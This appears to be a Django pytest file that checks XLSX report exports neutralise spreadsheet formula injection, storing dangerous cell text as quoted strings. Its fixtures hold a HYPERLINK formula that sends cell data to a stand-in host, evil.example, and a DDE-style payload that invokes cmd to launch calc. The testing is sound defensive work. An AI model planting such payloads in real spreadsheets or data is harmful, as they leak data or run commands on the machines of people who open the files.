"""Formula injection (issue 14, item 1): text a spreadsheet program would run as a
formula is written as text in every XLSX export (core.xlsx), numbers stay numbers."""

import io

import pytest
from openpyxl import load_workbook

from core.xlsx import FORMULA_STARTS, workbook_bytes
from enterprises.imports import template_workbook
from enterprises.models import Region
from reporting.models import ReportJob
from tests.support.audits import add_option

from . import test_reports
from .test_reports import chinese_audit, request_report

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _commit(django_capture_on_commit_callbacks):
    test_reports.committed = django_capture_on_commit_callbacks


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells(content: bytes):
    """Every cell of every sheet, as (value, data_type), as a spreadsheet program reads it."""
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for s in book.worksheets for row in s.iter_rows() for c in row]


def assert_no_formula(content: bytes):
    found = cells(content)
    assert found, "an empty workbook proves nothing"
    assert [value for value, kind in found if kind == "f"] == []


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_dangerous_start_is_written_as_text(start):
    text = f"{start}1+2"
    content = workbook_bytes([("t", ["h"], [[text, -3, "plain"]])])
    book = load_workbook(io.BytesIO(content))
    cell = book["t"]["A2"]
    # (XML reads a lone carriage return back as a line feed)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    assert (book["t"]["B2"].value, book["t"]["B2"].data_type) == (-3, "n")  # still a number
    assert book["t"]["C2"].quotePrefix is False


def test_an_option_titled_as_a_formula_stays_text_in_the_audit_summary(cast):
    audit = chinese_audit(cast)
    add_option(cast, audit, code="X1", title=EVIL)
    response = request_report(cast, kind="audit_summary", format="xlsx", audit=audit.pk)
    job = ReportJob.objects.get(pk=response.data["id"])
    content = job.file.open("rb").read()
    assert (EVIL, "s") in cells(content)
    assert_no_formula(content)


def test_a_region_named_as_a_formula_stays_text_in_the_performance_table(cast):
    chinese_audit(cast)
    Region.objects.filter(code="320100").update(name_en="@SUM(1+1)*cmd|' /C calc'!A0")
    response = request_report(
        cast, role="province_officer", kind="province_summary", format="xlsx", year=2026
    )
    content = ReportJob.objects.get(pk=response.data["id"]).file.open("rb").read()
    assert ("@SUM(1+1)*cmd|' /C calc'!A0", "s") in cells(content)
    assert_no_formula(content)


def test_the_import_template_has_no_formula():
    assert_no_formula(template_workbook())
